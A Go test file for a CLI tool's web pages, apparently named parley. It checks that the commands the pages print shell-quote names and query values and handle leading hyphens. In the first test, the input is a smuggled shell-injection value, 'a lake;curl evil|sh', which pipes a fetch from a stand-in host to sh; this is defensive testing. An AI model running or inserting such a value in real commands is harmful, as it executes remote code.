package web

import (
	"html"
	"net/url"
	"strings"
	"testing"

	"github.com/parley-hq/parley/internal/runs"
)

// What comes from data or an address is one word in each command that a page prints, whatever is in it.
func TestPagesPrintQuotedCommands(t *testing.T) {
	const odd, word = "a lake;curl evil|sh", "'a lake;curl evil|sh'"
	b := newBrowser(t)
	b.signIn()
	b.data.days.Name = odd
	b.data.record = strings.ReplaceAll(planted, id, odd)
	at := "/ui/conversation/" + url.PathEscape(odd)
	for path, want := range map[string]string{
		"/ui/calendar/2026":                      "parley extract --lake " + word + " --from 2026-07-13 --to 2026-07-15",
		"/ui/calendar/2025":                      "parley status --lake " + word,
		"/ui/day/2026-07-13":                     "parley extract --lake " + word + " --from 2026-07-13 --to 2026-07-14",
		"/ui/day/2026-07-12":                     "parley status --lake " + word + " --all",
		"/ui/runs":                               "parley status --runs --lake " + word,
		"/ui/figures":                            "parley report --lake " + word + " --from",
		"/ui/figures?queue=x%3Bcurl%20evil%7Csh": "--queue 'x;curl evil|sh'",
		at:                                       "parley get " + word,
		at + "?tab=record":                       "parley get " + word + " --record",
		at + "?tab=compare":                      "parley changes --lake ./lake --conversation " + word,
	} {
		if text := html.UnescapeString(b.get(path)); !strings.Contains(text, want) {
			t.Errorf("%s does not print %s", path, want)
		}
	}
	if text := html.UnescapeString(b.get(at + "?tab=compare")); !strings.Contains(text, "parley compare "+word+" --lake ./lake") {
		t.Error("the command that compares is not quoted")
	}
	b.data.days.Days = nil
	for path, want := range map[string]string{"/ui/calendar/2026": "Bring some by <code>parley extract --lake " + word, "/ui/runs": "Begin by <code>parley extract --lake " + word} {
		if text := html.UnescapeString(b.get(path)); !strings.Contains(text, want) {
			t.Errorf("%s does not print %s", path, want)
		}
	}
}

// What begins with a hyphen is a flag, but behind one and behind two hyphens.
func TestCommandsAboutAThing(t *testing.T) {
	for id, want := range map[string]string{
		"a-b": "parley jobs status a-b --lake x", "-a": "parley jobs status --lake x -- -a", "--all": "parley jobs status --lake x -- --all", "-a b": "parley jobs status --lake x -- '-a b'",
	} {
		if got := commandOn("parley jobs status", id, " --lake x"); got != want {
			t.Errorf("%s: %s, want %s", id, got, want)
		}
	}
}

// Commands that ask the platform name it, unless it is the platform itself, whose logins are elsewhere.
func TestCommandsThatAskThePlatform(t *testing.T) {
	for platform, want := range map[string]string{"": " --lake ./l", "http://127.0.0.1:18400": " --lake ./l --base-url http://127.0.0.1:18400", "https://api.mypurecloud.com": " --lake ./l"} {
		if got := lakeAndPlatform("./l", platform); got != want {
			t.Errorf("%s: %s", platform, got)
		}
	}
	b := newBrowser(t)
	b.signIn()
	b.data.days.Platform = "http://p"
	b.data.runs = []runs.Run{{ID: "run-1", First: day("2026-07-10"), End: day("2026-07-12"), Again: "2026-07-10..2026-07-11", Begun: b.site.now, Seen: b.site.now, Days: "r."}}
	for path, want := range map[string]string{
		"/ui/calendar/2026":  "parley extract --lake ./lake --base-url http://p --from 2026-07-13 --to 2026-07-15",
		"/ui/day/2026-07-13": "parley extract --lake ./lake --base-url http://p --from 2026-07-13 --to 2026-07-14",
		"/ui/runs/run-1":     "parley extract --lake ./lake --base-url http://p --from 2026-07-10 --to 2026-07-12 --again 2026-07-10..2026-07-11",
	} {
		if text := b.get(path); !strings.Contains(text, want) {
			t.Errorf("%s: no %s", path, want)
		}
	}
	if text := b.get("/ui/day/2026-07-15"); strings.Contains(text, "parley extract") {
		t.Error("a day that is read again when it is due has a command that would do nothing")
	}
}
